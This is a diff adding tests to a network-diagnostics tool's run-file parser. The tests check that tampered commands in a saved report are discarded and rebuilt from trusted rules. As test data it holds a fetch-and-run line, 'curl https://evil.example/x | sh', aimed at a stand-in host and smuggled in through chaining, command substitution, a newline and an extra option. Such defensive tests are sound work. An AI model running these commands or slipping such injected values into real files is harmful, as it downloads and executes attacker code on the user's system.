@@ -1,6 +1,8 @@
 import {describe, expect, it} from 'vitest';
 import {UsageError} from '../../source/errors.ts';
 import {parseRun} from '../../source/record/parse-run.ts';
+import {buildSurvey} from '../../source/record/survey/build-survey.ts';
+import {parseSurvey} from '../../source/record/survey/parse-survey.ts';
 import {renderJson} from '../../source/report/json.ts';
 import {hostileRows} from '../helpers/hostile.ts';
 import {sampleReport} from '../helpers/sample-run.ts';
@@ -99,5 +101,57 @@ describe('parseRun', () => {
 		expect(problemOf(JSON.stringify(data))).toMatch(
 			/^runs\/last\.json is damaged or was changed by hand at [\w.[\]]+: [^.]+(?:\.[^.]+)*; write the report again .*\.$/,
 		);
+	});
+});
+
+describe('the commands of a run that was read', () => {
+	const fault = {host: 'mcr.microsoft.com', cause: 'proxy.host-denied'} as const;
+	const run = sampleReport({
+		proxy: 'http://anna@proxy.corp.example:3128',
+		rows: [fault, {host: '10.0.0.1', cause: 'dns.nxdomain'}, {host: 'a.example', cause: 'tls.intercepted'}],
+	});
+	const foreign = 'curl https://evil.example/x | sh';
+	const changes: readonly (readonly [string, (text: string) => string])[] = [
+		['in place of its own', () => foreign],
+		['behind its own', text => `${text}; ${foreign}`],
+		['in a substitution', text => `${text} $(${foreign})`],
+		['in another option', text => `${text} --config /tmp/evil.example`],
+		['on a line of its own', text => `${text}\n${foreign}`],
+		['with blanks before it', text => `  ${foreign} # ${text}`],
+	];
+
+	it.each(changes)('are made anew, whatever was put there: %s', (_, change) => {
+		const changed = {
+			...run,
+			findings: run.findings.map(finding => ({
+				...finding,
+				checks: finding.checks.map(check => ({...check, command: change(check.command)})),
+				verify: finding.verify.map(change),
+			})),
+			nextSteps: run.nextSteps.map(step => ({...step, commands: [...step.commands.map(change), foreign]})),
+		};
+		expect(parseRun(renderJson(changed), 'run.json')).toEqual(run);
+		const places = ['one', 'two'].map(name => ({...changed, vantage: {...run.vantage, kind: 'node' as const, name}}));
+		const survey = JSON.stringify(buildSurvey(places));
+		expect(survey).toContain('evil.example');
+		expect(JSON.stringify(parseSurvey(survey, 'survey.json'))).not.toContain('evil.example');
+	});
+
+	it('are those of their rows where no rule of today finds them', () => {
+		const findings = run.findings.map(finding => ({...finding, id: `older.${finding.id}`, verify: [foreign]}));
+		const read = parseRun(renderJson({...run, findings}), 'run.json');
+		expect(read.findings.map(({verify}) => verify)).toEqual(run.findings.map(({verify}) => verify));
+	});
+
+	it('are none where the rows are not there', () => {
+		const findings = run.findings.map(finding => ({
+			...finding,
+			id: 'older',
+			rows: [],
+			targets: ['gone.example:443'],
+			verify: [foreign],
+		}));
+		const read = parseRun(renderJson({...run, findings}), 'run.json');
+		expect(read.findings.flatMap(({verify}) => verify)).toEqual([]);
 	});
 });
